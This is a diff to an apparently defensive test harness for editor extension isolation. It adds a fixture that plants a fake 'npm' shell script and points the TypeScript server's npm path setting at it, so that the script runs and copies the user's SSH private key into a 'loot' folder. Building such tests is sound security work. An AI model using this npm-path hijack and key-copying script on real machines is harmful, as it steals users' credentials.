@@ -26,6 +26,22 @@ function fixture(world, name) {
   for (const each of named) world.write(`made/${name}/${each}`, fs.readFileSync(path.join(folder, each), "utf8").replaceAll("COLLECTOR", world.collector.port));
   return world.path(`made/${name}`);
 }
+/**
+ * Does what npm does with a package.json that names a git repository whose .npmrc says which program its git is: runs that
+ * program. It tells that it ran, and steals for whoever had it run.
+ */
+function writeNpm(world) {
+  const app = "home/projects/app";
+  world.write(`${app}/tools/npm`, `#!/bin/sh
+case "$*" in *install*) ;; *) exit 1 ;; esac
+cat '${world.home}/.ssh/id_rsa' > '${world.loot}/deputies.'$(basename "$PWD")
+echo "$@" > npm-ran
+`);
+  fs.chmodSync(world.path(`${app}/tools/npm`), 0o700);
+  // Type acquisition is off where built-in extensions are in a compartment: a person who switched it on.
+  world.write("data/data/Machine/settings.json", JSON.stringify({ "js/ts.tsserver.npm.path": world.path(`${app}/tools/npm`), "js/ts.tsserver.automaticTypeAcquisition.enabled": true }));
+}
+
 const modes = (process.env.BULKHEAD_MODES ?? "plain,compartments").split(",");
 const chosen = process.env.BULKHEAD_WAYS?.split(",");
 const ways = WAYS.filter(({ name }) => !chosen || chosen.includes(name));
@@ -38,6 +54,7 @@ for (const mode of modes) {
       writeEmptyVsix(world.path("sleeper.vsix"), "evil", "sleeper");
       world.write("home/projects/app/.proof/victim.token", world.secrets.victim);
       world.write("home/projects/app/code.ts", "export const one: number = 1;\n");
+      writeNpm(world);
       editor = await Editor.start({ mode, world, extensions: ["canary", "victim", "ts-plugin", "bare", ...ways.map(({ name }) => name)].map((name) => fixture(world, name)), settings: { "workbench.colorTheme": "Proof Theme", "proofVictim.account": world.secrets.settings, "[css]": { "files.autoSave": "off", "editor.codeActionsOnSave": { "source.fixAll.proof": "explicit" } } } });
       world.write("home/projects/app/.proof/facts.json", JSON.stringify({
         ...world.facts(), port: editor.port, vsix: world.path("sleeper.vsix"), data: editor.data, runtime: world.runtime, tokens: editor.tokenFiles(),
